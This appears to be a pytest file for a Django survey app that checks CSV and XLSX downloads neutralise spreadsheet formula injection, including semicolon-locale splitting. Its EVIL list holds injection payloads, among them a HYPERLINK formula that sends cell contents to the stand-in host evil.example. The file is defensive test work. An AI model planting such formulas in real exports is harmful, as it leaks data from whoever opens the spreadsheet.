"""The coordinator's files: a written answer from the web or an imported cell that begins with
=, +, -, @, a tab or a carriage return reaches the CSV and XLSX downloads as text (OWASP CSV
injection), never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from copro.render.cells import neutralise
from copro.web.survey import store
from copro.web.survey.models import Round
from tests.web.survey_helpers import LEEDS, answer, coordinator, signed_in

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"Click for more")', "+1+2", "-3+4",
        "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_neutralise():
    assert [neutralise(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert neutralise("Being listened to") == "Being listened to"
    assert neutralise(-3) == -3 and neutralise(None) is None and neutralise("") == ""


def test_formulas_reach_the_downloads_as_text():
    coordinator("leeds", LEEDS)
    manager = signed_in("leeds")
    r = Round.objects.create(area_code=LEEDS, instrument_version="1")
    for i, text in enumerate(EVIL):
        answer(Client(), LEEDS, "forum", {"biggest_difference": text}, remote=f"10.3.0.{i}")
        store.save_response(r, "forum", {"biggest_difference": text}, client="", token=None,
                            source="import")
    text = manager.get("/survey/manage/download/?confirm=1&free_text=1").content.decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    written = [row[-1] for row in rows[1:]]
    assert len(written) == 12
    for value in written:
        # shown as written (the web form trims spaces around an answer), never run
        assert value.startswith("'") and value[1:] in EVIL + [e.strip() for e in EVIL]
    xlsx = manager.get("/survey/manage/download/?confirm=1&free_text=1&format=xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [row[-1] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == 12
    for cell in cells:
        assert cell.data_type == "s" and cell.value.startswith("'")
    assert [c.value for c in next(sheet.iter_rows())][-1] == \
        "What would have made the biggest difference?"  # the question as respondents read it


def test_a_semicolon_cannot_start_a_formula_in_a_semicolon_locale():
    """``ok;=1+1`` was written unquoted: a spreadsheet set to a semicolon locale split the line
    there and ran ``=1+1``. Now what follows each ``;`` is neutralised and the cell quoted."""
    assert neutralise("ok;=1+1") == "ok;'=1+1"
    assert neutralise("a; -3 ;@x") == "a;' -3 ;'@x"
    assert neutralise("=a;=b") == "'=a;'=b"
    assert neutralise("one;two") == "one;two"
    coordinator("leeds", LEEDS)
    manager = signed_in("leeds")
    r = Round.objects.create(area_code=LEEDS, instrument_version="1")
    answer(Client(), LEEDS, "forum", {"biggest_difference": "ok;=1+1"}, remote="10.3.1.1")
    store.save_response(r, "forum", {"biggest_difference": 'x;+1,"y"'}, client="", token=None,
                        source="import")
    text = manager.get("/survey/manage/download/?confirm=1&free_text=1").content.decode()
    assert '"ok;\'=1+1"' in text
    # read as a semicolon-locale spreadsheet reads it: no piece of a line runs
    for line in text.split("\r\n"):
        for piece in line.split(";"):
            assert not piece.lstrip(' "').startswith(("=", "+", "-", "@")), line
    # and read as CSV, the answers come back whole
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[-1] for row in rows[1:]] == ["ok;'=1+1", 'x;\'+1,"y"']
